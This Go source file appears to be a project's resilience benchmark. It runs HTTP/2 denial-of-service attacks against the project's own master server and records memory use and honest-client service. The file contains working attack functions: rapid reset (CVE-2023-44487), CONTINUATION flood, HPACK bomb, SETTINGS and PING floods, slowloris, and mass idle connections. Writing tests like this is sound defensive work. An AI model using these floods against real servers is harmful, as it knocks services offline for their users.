package main

// The attack table (issue 29): the master's memory under each attack on its
// HTTP/2 port beside its idle figure, on both transports, while honest
// clients with the job's token keep calling. An attacker has no token.

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/kfelastic/kfelastic/api/masterpb"
)

// attack is one way to hit the port: run until ctx ends, on at most conns
// connections.
type attack struct {
	name, what string
	conns      int
	run        func(ctx context.Context, addr string)
}

// attackFor is how long each attack runs; honestClients call Status
// throughout.
const (
	attackFor     = 6 * time.Second
	honestClients = 8
)

func attacks() []attack {
	return []attack{
		{"rapid reset", "HEADERS then RST_STREAM, as fast as the socket takes them (CVE-2023-44487)", 4, floodConn(rapidReset)},
		{"CONTINUATION flood", "HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs without end", 4, floodConn(continuationFlood)},
		{"HPACK bomb", "a 4 KiB header indexed once, referenced 16,000 times per block", 4, floodConn(hpackBomb)},
		{"SETTINGS flood", "SETTINGS frames, the ACKs never read", 4, floodConn(settingsFlood)},
		{"PING flood", "PING frames, the ACKs never read", 4, floodConn(pingFlood)},
		{"slowloris", "1,000 connections sending the preface a byte a second", 1000, slowloris},
		{"10,000 idle", "10,000 connections: preface and SETTINGS, then nothing", 10000, idleConns(10000)},
	}
}

// attackTable runs every attack on a fresh master per transport.
func attackTable(dir, tokenFile string) error {
	fmt.Println("Attacks on the master's port (no token), each for", attackFor, "on a fresh master; honest clients:", honestClients,
		"with the token calling Status throughout")
	fmt.Printf("%-10s %-20s %12s %12s %12s %10s\n", "transport", "attack", "peak RSS", "over idle", "honest ok", "max wait")
	fmt.Println("(honest ok: Status calls answered of those made during the attack; max wait: the slowest)")
	for _, transport := range []string{"lean", "grpc"} {
		for _, a := range attacks() {
			row, err := attackRow(dir, tokenFile, transport, a)
			if err != nil {
				return fmt.Errorf("%s, %s: %w", transport, a.name, err)
			}
			fmt.Println(row)
		}
	}
	fmt.Println()
	for _, a := range attacks() {
		fmt.Printf("  %s: %s\n", a.name, a.what)
	}
	return nil
}

func attackRow(dir, tokenFile, transport string, a attack) (string, error) {
	saved := *mflags
	*mflags = strings.TrimSpace(saved + " --transport " + transport)
	m, err := startMaster(dir, tokenFile, "file://"+filepath.Join(dir, fmt.Sprintf("attack-%d", time.Now().UnixNano())), 1)
	*mflags = saved
	if err != nil {
		return "", err
	}
	defer m.stop()
	honest, stopHonest, err := startHonest(m.addr)
	if err != nil {
		return "", err
	}
	time.Sleep(2 * time.Second) // warm: the honest clients' connections and buffers
	idle := vmRSS(m.cmd.Process.Pid)
	honest.reset()
	ctx, cancel := context.WithTimeout(context.Background(), attackFor)
	peak := atomic.Int64{}
	peak.Store(idle)
	var sampler sync.WaitGroup
	sampler.Go(func() {
		for ctx.Err() == nil {
			peak.Store(max(peak.Load(), vmRSS(m.cmd.Process.Pid)))
			time.Sleep(50 * time.Millisecond)
		}
	})
	a.run(ctx, m.addr)
	cancel()
	sampler.Wait()
	ok, failed, wait := honest.counts()
	stopHonest()
	served := fmt.Sprintf("%d/%d", ok, ok+failed)
	if a.name == "10,000 idle" {
		served += fmt.Sprintf(" (%d open)", idleOpened.Load())
	}
	return fmt.Sprintf("%-10s %-20s %9.1f MiB %9.1f MiB %12s %10s", transport, a.name, float64(peak.Load())/(1<<20),
		float64(peak.Load()-idle)/(1<<20), served, wait.Round(time.Millisecond)), nil
}

// honestLoad is the honest clients' tally.
type honestLoad struct {
	mu       sync.Mutex
	ok, fail int
	maxWait  time.Duration
}

func (h *honestLoad) reset() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.ok, h.fail, h.maxWait = 0, 0, 0
}

func (h *honestLoad) counts() (int, int, time.Duration) {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.ok, h.fail, h.maxWait
}

// startHonest starts honestClients connections with the token, each
// calling Status in a loop (2 s deadline a call).
func startHonest(addr string) (*honestLoad, func(), error) {
	h := &honestLoad{}
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	for range honestClients {
		conn, err := dial(addr)
		if err != nil {
			cancel()
			return nil, nil, err
		}
		c := masterpb.NewMasterClient(conn)
		wg.Go(func() {
			defer conn.Close()
			for ctx.Err() == nil {
				start := time.Now()
				cctx, ccancel := context.WithTimeout(ctx, 2*time.Second)
				_, err := c.Status(cctx, &masterpb.StatusRequest{})
				ccancel()
				took := time.Since(start)
				h.mu.Lock()
				if err == nil {
					h.ok++
				} else if ctx.Err() == nil {
					h.fail++
				}
				h.maxWait = max(h.maxWait, took)
				h.mu.Unlock()
				time.Sleep(20 * time.Millisecond)
			}
		})
	}
	return h, func() { cancel(); wg.Wait() }, nil
}

// floodConn runs flood on n connections (the attack's count) until ctx
// ends, each opened with the client preface and a SETTINGS frame; a
// connection the server closes is opened again.
func floodConn(flood func(ctx context.Context, fr *http2.Framer)) func(ctx context.Context, addr string) {
	return func(ctx context.Context, addr string) {
		var wg sync.WaitGroup
		for range 4 {
			wg.Go(func() {
				for ctx.Err() == nil {
					c, fr, err := openH2(addr)
					if err != nil {
						time.Sleep(50 * time.Millisecond)
						continue
					}
					stop := context.AfterFunc(ctx, func() { c.Close() })
					flood(ctx, fr)
					stop()
					c.Close()
				}
			})
		}
		wg.Wait()
	}
}

func openH2(addr string) (net.Conn, *http2.Framer, error) {
	c, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		return nil, nil, err
	}
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		c.Close()
		return nil, nil, err
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		c.Close()
		return nil, nil, err
	}
	return c, fr, nil
}

// callHeaders is a call's header block without a token.
func callHeaders(extra ...hpack.HeaderField) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/kfelastic.master.v1.Master/Status"}, {Name: ":authority", Value: "master"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}}, extra...) {
		_ = enc.WriteField(f)
	}
	return buf.Bytes()
}

func rapidReset(ctx context.Context, fr *http2.Framer) {
	block := callHeaders()
	for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

func continuationFlood(ctx context.Context, fr *http2.Framer) {
	if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: callHeaders()}) != nil {
		return
	}
	junk := bytes.Repeat([]byte{0x40, 0x7f}, 8<<10) // literal headers with indexing, names cut short
	for ctx.Err() == nil {
		if fr.WriteContinuation(1, false, junk) != nil {
			return
		}
	}
}

func hpackBomb(ctx context.Context, fr *http2.Framer) {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	_ = enc.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)})
	first := slices.Concat(callHeaders(), buf.Bytes())
	// Index 62: the newest entry of the dynamic table, one byte each.
	refs := bytes.Repeat([]byte{0x80 | 62}, 16000)
	for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
		block := refs
		if id == 1 {
			block = slices.Concat(first, refs)
		} else {
			block = slices.Concat(callHeaders(), refs)
		}
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}) != nil {
			return
		}
	}
}

func settingsFlood(ctx context.Context, fr *http2.Framer) {
	for ctx.Err() == nil {
		if fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}) != nil {
			return
		}
	}
}

func pingFlood(ctx context.Context, fr *http2.Framer) {
	var data [8]byte
	for ctx.Err() == nil {
		if fr.WritePing(false, data) != nil {
			return
		}
	}
}

// slowloris holds 1,000 connections, each sending the client preface one
// byte a second.
func slowloris(ctx context.Context, addr string) {
	var wg sync.WaitGroup
	for range 1000 {
		wg.Go(func() {
			c, err := net.DialTimeout("tcp", addr, time.Second)
			if err != nil {
				return
			}
			defer c.Close()
			for _, b := range []byte(http2.ClientPreface) {
				if _, err := c.Write([]byte{b}); err != nil {
					return
				}
				select {
				case <-ctx.Done():
					return
				case <-time.After(time.Second):
				}
			}
		})
	}
	wg.Wait()
}

// idleOpened is how many connections the last idle attack held open.
var idleOpened atomic.Int64

// idleConns opens n connections that send the preface and SETTINGS and
// then nothing, held until ctx ends.
func idleConns(n int) func(ctx context.Context, addr string) {
	return func(ctx context.Context, addr string) {
		var conns []net.Conn
		for range n {
			if ctx.Err() != nil {
				break
			}
			c, _, err := openH2(addr)
			if err != nil {
				continue
			}
			conns = append(conns, c)
		}
		idleOpened.Store(int64(len(conns)))
		<-ctx.Done()
		for _, c := range conns {
			c.Close()
		}
	}
}
